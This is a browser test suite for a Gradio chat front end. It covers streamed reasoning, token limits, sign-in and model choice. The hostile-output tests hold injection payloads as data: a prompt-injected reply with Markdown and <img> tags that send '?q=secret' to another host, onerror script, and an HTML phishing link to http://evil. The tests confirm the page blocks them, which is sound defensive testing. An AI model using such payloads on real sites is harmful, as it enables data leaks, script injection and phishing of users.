"""In headless Chromium: reasoning models shown as they think, sign-in and the model picker, and the page holding
against hostile content (no image fetched from elsewhere, no script from another visitor's values)."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.support.apps import RunningApp, running_app
from tests.support.browser import chromium
from tests.support.fake_hub import FakeHub
from tests.support.fake_openai import Behaviour, FakeOpenAI, free_port

pytestmark = pytest.mark.browser

MESSAGE_BOX = "#message textarea"
THOUGHTS = "first I consider the question carefully then I answer it"
DEVELOPER_TOKEN = "hf_developer_own_token_0123456789"
SESSION_SECRET = "s" * 40


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as launched:
        yield launched


def open_page(browser: Browser, url: str) -> Page:
    page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
    page.goto(url)
    page.locator(MESSAGE_BOX).wait_for()
    return page


def send(page: Page, text: str) -> None:
    box = page.locator(MESSAGE_BOX)
    box.fill(text)
    box.press("Enter")


def set_max_tokens(page: Page, tokens: int) -> None:
    """Type a value into the Max tokens slider's number box, and wait until the slider itself holds it: the
    component takes a typed value through its own state, which the range input shows once it has it."""
    page.get_by_label("number input for Max tokens").fill(str(tokens))
    page.get_by_label("number input for Max tokens").press("Enter")
    expect(page.get_by_label("range slider for Max tokens")).to_have_value(str(tokens))


def wait_until_ready(page: Page) -> None:
    expect(page.get_by_role("button", name="Stop")).to_have_count(0, timeout=15_000)


class TestReasoning:
    @pytest.mark.parametrize("style", ["reasoning", "reasoning_content", "reasoning_text", "tags"])
    def test_thinking_shows_while_it_happens_then_closes(self, browser, fake, app, style):
        """Thinking streams into an open "Thinking" block; when the answer starts, the block closes with its
        duration; the answer is separate; the next request carries the answer only."""
        fake.behaviour.thinking = THOUGHTS
        fake.behaviour.thinking_style = style
        fake.behaviour.delay = 0.15
        page = open_page(browser, app.url)
        send(page, "why")
        thinking = page.locator(".thought-group, [data-testid='bot']").filter(has_text="Thinking").first
        expect(thinking).to_contain_text("first I consider", timeout=10_000)
        expect(page.locator("[data-testid='bot']").last).to_have_text("You said: why", timeout=20_000)
        wait_until_ready(page)
        body = page.locator("#chatbot").inner_text()
        assert "Thinking" in body
        assert "s)" in body  # the duration, as "(1.2 s)" or the like
        fake.behaviour.thinking = None
        send(page, "again")
        expect(page.locator("[data-testid='bot']").last).to_have_text("You said: again", timeout=15_000)
        sent = fake.requests[-1]["messages"]
        assert sent[1:] == [
            {"role": "user", "content": "why"},
            {"role": "assistant", "content": "You said: why"},
            {"role": "user", "content": "again"},
        ]
        page.context.close()

    def test_a_reply_that_only_thought_says_so(self, browser, fake, app):
        """All tokens spent thinking (finish_reason "length"): the page says so instead of an empty bubble."""
        fake.behaviour.thinking = THOUGHTS
        page = open_page(browser, app.url)
        page.get_by_role("button", name="Parameters").click()
        set_max_tokens(page, 3)
        send(page, "think hard")
        expect(page.locator("#chatbot")).to_contain_text("spent all 3 tokens thinking", timeout=15_000)
        page.context.close()

    def test_a_reply_cut_at_the_limit_says_so(self, browser, fake, app):
        """An answer cut at max_tokens keeps its text and says where it was cut."""
        fake.behaviour.tokens = 50
        page = open_page(browser, app.url)
        page.get_by_role("button", name="Parameters").click()
        set_max_tokens(page, 5)
        send(page, "long please")
        expect(page.locator("#chatbot")).to_contain_text("cut at the token limit (5 tokens)", timeout=15_000)
        expect(page.locator("[data-testid='bot']").last).to_contain_text("t0 t1 t2 t3 t4")
        page.context.close()


class _Elsewhere(http.server.ThreadingHTTPServer):
    """A third-party host: counts every request a visitor's browser makes to it."""

    hits: list[str]


class _Counter(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.hits.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[_Elsewhere]:
    server = _Elsewhere(("127.0.0.1", free_port()), _Counter)
    server.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()


class TestHostileModelOutput:
    def test_no_image_is_fetched_from_elsewhere(self, browser, fake, app, elsewhere):
        """A prompt-injected reply with a Markdown image and an <img> pointing at another host: the visitor's
        browser fetches neither (they show as links), and no script from the reply runs."""
        port = elsewhere.server_address[1]
        fake.behaviour.reply = (
            f"Look ![chart](http://127.0.0.1:{port}/leak.png?q=secret) and "
            f'<img src="http://127.0.0.1:{port}/img.png?q=secret" onerror="window.__pwned = 1"> done'
        )
        page = open_page(browser, app.url)
        send(page, "show me")
        bot = page.locator("[data-testid='bot']").last
        expect(bot).to_contain_text("done", timeout=15_000)
        page.wait_for_timeout(1000)
        assert elsewhere.hits == []
        assert page.evaluate("() => window.__pwned") is None
        expect(bot.locator("a", has_text="chart")).to_have_attribute(
            "href", f"http://127.0.0.1:{port}/leak.png?q=secret"
        )
        assert bot.locator("img").count() == 0
        page.context.close()

    def test_the_page_forbids_images_from_elsewhere(self, app):
        """The backstop for whatever gets past the rendering: the page's Content-Security-Policy."""
        policy = httpx.get(app.url, timeout=10).headers["content-security-policy"]
        assert "img-src 'self' data: blob:" in policy
        assert "media-src 'self' data: blob:" in policy


class TestAnotherVisitorsValues:
    def test_a_hostile_visitor_cannot_reach_a_victims_page(self, browser, app, fake):
        """A conversation with an HTML component sent as an event's value is refused, the deep link that would
        have carried it to a victim does not exist, and a victim opening a deep-link URL runs nothing."""
        config = httpx.get(app.url + "config", timeout=10).json()
        box = next(c["id"] for c in config["components"] if c.get("props", {}).get("elem_id") == "message")
        reply_event = next(d["id"] for d in config["dependencies"] if [box, "submit"] in d["targets"])
        payload = {
            "type": "component",
            "component": "html",
            "value": "<img src=x onerror=\"window.__pwned=1\"><a href='http://evil'>session expired, sign in</a>",
            "constructor_args": {},
            "props": {},
        }
        body = {"data": [[payload], "s", 0.5, 10, ""], "fn_index": reply_event, "session_hash": "q8x3kz0vla"}
        with httpx.Client(base_url=app.url, timeout=20) as client:
            client.post("gradio_api/queue/join", json=body)
            assert client.get("gradio_api/deep_link", params={"session_hash": "q8x3kz0vla"}).status_code == 404
        page = browser.new_context().new_page()
        page.goto(app.url + "?deep_link=q8x3kz0vla")
        page.locator(MESSAGE_BOX).wait_for()
        page.wait_for_timeout(500)
        assert page.evaluate("() => window.__pwned") is None
        expect(page.get_by_text("session expired")).to_have_count(0)
        page.context.close()


@pytest.fixture(scope="module")
def router() -> Iterator[FakeOpenAI]:
    with FakeOpenAI(Behaviour(delay=0.01, models=("org/model-a:fastest", "org/model-b"))) as server:
        yield server


@pytest.fixture(scope="module")
def hub() -> Iterator[FakeHub]:
    with FakeHub(token=DEVELOPER_TOKEN) as server:
        yield server


@pytest.fixture(scope="module")
def signin_app(router, hub, tmp_path_factory) -> Iterator[RunningApp]:
    """Sign-in off Spaces, as a developer runs it: a long session secret, their own token, Gradio's mocked login
    (which asks the Hub who owns the token: the fake Hub); anonymous visitors are asked to sign in."""
    env = {
        "HF_ROUTER_URL": router.base_url,
        "HF_ROUTER_MODELS": "org/model-a:fastest,org/model-b",
        "HF_TOKEN": DEVELOPER_TOKEN,
        "OAUTH_CLIENT_SECRET": SESSION_SECRET,
        "HF_ENDPOINT": hub.url,
        "HF_HUB_OFFLINE": "0",
        "ANONYMOUS_CHAT": "signin",
    }
    with running_app(tmp_path_factory.mktemp("signin"), **env) as app:
        yield app


class TestSignIn:
    def test_anonymous_visitors_are_asked_to_sign_in(self, browser, signin_app, router):
        """With ANONYMOUS_CHAT=signin the status line asks to sign in, and a message is refused with that ask."""
        router.reset()
        page = open_page(browser, signin_app.url)
        expect(page.locator("#status-line")).to_contain_text("Sign in with Hugging Face to chat")
        send(page, "hello")
        expect(page.get_by_text("Sign in with Hugging Face to chat: your chats then run")).to_have_count(1)
        assert router.requests == []
        page.context.close()

    def test_a_signed_in_visitor_chats_on_their_own_token_and_picks_a_model(self, browser, signin_app, router):
        """The mocked login signs in as the token's owner; the status says who pays; chats reach the router with
        the developer's own token (the mock's placeholder never leaves); the picker's second model is used."""
        router.reset()
        page = open_page(browser, signin_app.url)
        page.get_by_role("button", name="Sign in with Hugging Face").click()
        expect(page.locator("#status-line")).to_contain_text("Signed in as @ada", timeout=15_000)
        expect(page.locator("#status-line")).to_contain_text("on your account")
        send(page, "first")
        expect(page.locator("[data-testid='bot']").last).to_have_text("You said: first", timeout=15_000)
        assert router.requests[-1]["_headers"]["authorization"] == f"Bearer {DEVELOPER_TOKEN}"
        assert router.requests[-1]["model"] == "org/model-a:fastest"
        wait_until_ready(page)
        page.get_by_label("Model").click()
        page.get_by_role("option", name="org/model-b").click()
        send(page, "second")
        expect(page.locator("[data-testid='bot']").last).to_have_text("You said: second", timeout=15_000)
        assert router.requests[-1]["model"] == "org/model-b"
        assert "mock-oauth-token" not in json.dumps(router.requests)
        page.context.close()
